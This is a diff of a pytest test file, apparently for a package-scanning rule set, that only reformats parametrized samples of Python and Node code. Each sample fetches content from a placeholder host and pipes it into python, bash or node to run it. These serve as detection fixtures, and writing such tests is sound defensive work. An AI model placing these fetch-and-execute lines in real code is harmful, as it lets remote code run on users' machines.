@@ -22,11 +22,12 @@ def test_which_command_reads_its_input() -> None:
 @pytest.mark.parametrize(
     ("kind", "code"),
     [
-        ("wheel", "import subprocess, sys, requests\np = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
-            "p.communicate(requests.get('https://gives.invalid/x').content)"),
-        ("wheel", "import subprocess, urllib.request as u\nsubprocess.run(['bash'], input=u.urlopen('https://gives.invalid/x').read())"),
-        ("npm", "const c = require('child_process').spawn('node', ['-']);\n"
-            "fetch('https://gives.invalid/x').then(r => r.text()).then(t => c.stdin.end(t));"),
+        ("wheel", ("import subprocess, sys, requests\np = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
+            "p.communicate(requests.get('https://gives.invalid/x').content)")),
+        ("wheel", ("import subprocess, urllib.request as u\n"
+            "subprocess.run(['bash'], input=u.urlopen('https://gives.invalid/x').read())")),
+        ("npm", ("const c = require('child_process').spawn('node', ['-']);\n"
+            "fetch('https://gives.invalid/x').then(r => r.text()).then(t => c.stdin.end(t));")),
     ],
 )  # fmt: skip
 def test_downloads_that_are_fed_run(kind: str, code: str, rules_of: Rules) -> None:
